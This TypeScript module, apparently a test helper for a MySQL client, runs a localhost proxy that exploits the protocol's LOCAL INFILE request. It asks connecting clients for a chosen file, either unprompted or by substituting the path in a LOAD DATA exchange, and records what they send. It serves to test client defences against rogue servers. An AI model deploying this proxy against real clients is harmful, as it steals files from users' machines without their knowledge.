import { once } from 'node:events';
import { connect, createServer, type AddressInfo, type Socket } from 'node:net';

/** Commands that no server answers: COM_QUIT, COM_STMT_CLOSE. */
const UNANSWERED = [0x01, 0x19];
/** The client waits for the rest of the answer to this command, so the connection is closed. */
const PREPARE = 0x16;
const ASKS_FOR_FILE = 0xfb;
const OK = Buffer.from([0, 0, 0, 2, 0, 0, 0]);

/**
 * A proxy before a real server that asks clients for one of their files. It does so in answer to a chosen command, which
 * then never reaches the server, or in place of the file that the server asks for because of LOAD DATA LOCAL.
 */
export interface FileThief {
  readonly host: string;
  readonly port: number;
  /** The commands so far, each as its first byte and its text. */
  readonly commands: string[];
  /** What clients sent when they were asked, without the protocol's headers. */
  readonly sent: Buffer[];
  /** How often clients were asked. */
  readonly asked: number;
  /**
   * Asks for this file once, in answer to the next command for which `when` returns true, or to LOAD DATA. Resolves when
   * the client has sent the packet that ends the file.
   */
  ask(path: string, when?: (command: string) => boolean): Promise<void>;
  stop(): Promise<void>;
}

export async function startFileThief(server: { host: string; port: number }): Promise<FileThief> {
  let path = '';
  let when: (command: string) => boolean = () => false;
  let asked = 0;
  let answered: () => void = () => undefined;
  const commands: string[] = [];
  const sent: Buffer[] = [];
  const sockets = new Set<Socket>();

  const listener = createServer((client) => {
    const upstream = connect(server.port, server.host);
    for (const socket of [client, upstream]) {
      sockets.add(socket.setNoDelay(true));
      socket.on('error', () => undefined);
      socket.on('close', () => {
        client.destroy();
        upstream.destroy();
      });
    }
    /** The side that asked for the file that the client is sending. */
    let asking: 'thief' | 'server' | undefined;
    const demand = (sequence: number) =>
      client.write(packet(sequence, Buffer.concat([Buffer.from([ASKS_FOR_FILE]), Buffer.from(path)])));

    eachPacket(client, (sequence, payload, whole) => {
      if (asking !== undefined && sequence > 0) {
        sent.push(payload);
        if (asking === 'server') upstream.write(whole);
        if (payload.length > 0) return;
        if (asking === 'thief') client.write(packet(sequence + 1, OK));
        asking = undefined;
        answered();
        return;
      }
      if (sequence === 0 && !UNANSWERED.includes(payload[0]!)) {
        commands.push(`${payload[0]} ${payload.subarray(1, 200).toString()}`);
        if (asked === 0 && when(commands.at(-1)!)) {
          asked++;
          asking = 'thief';
          demand(1);
          if (payload[0] === PREPARE) client.end();
          return;
        }
      }
      upstream.write(whole);
    });
    eachPacket(upstream, (sequence, payload, whole) => {
      if (asked === 0 && sequence === 1 && payload[0] === ASKS_FOR_FILE && commands.at(-1)!.includes('LOAD DATA')) {
        asked++;
        asking = 'server';
        demand(1);
      } else client.write(whole);
    });
  });
  listener.listen(0, '127.0.0.1');
  await once(listener, 'listening');

  return {
    host: '127.0.0.1',
    port: (listener.address() as AddressInfo).port,
    commands,
    sent,
    get asked() {
      return asked;
    },
    ask(file, condition = () => false) {
      path = file;
      when = condition;
      asked = commands.length = sent.length = 0;
      return new Promise((resolve) => (answered = resolve));
    },
    async stop() {
      listener.close();
      for (const socket of sockets) socket.destroy();
      await once(listener, 'close');
    },
  };
}

/** Calls `take` with every packet of the protocol. `whole` includes the packet's header. */
function eachPacket(socket: Socket, take: (sequence: number, payload: Buffer, whole: Buffer) => void): void {
  let rest = Buffer.alloc(0);
  socket.on('data', (chunk: Buffer) => {
    rest = Buffer.concat([rest, chunk]);
    while (rest.length >= 4 && rest.length >= 4 + rest.readUIntLE(0, 3)) {
      const whole = rest.subarray(0, 4 + rest.readUIntLE(0, 3));
      rest = rest.subarray(whole.length);
      take(whole[3]!, whole.subarray(4), whole);
    }
  });
}

function packet(sequence: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(4);
  header.writeUIntLE(payload.length, 0, 3);
  header[3] = sequence & 0xff;
  return Buffer.concat([header, payload]);
}
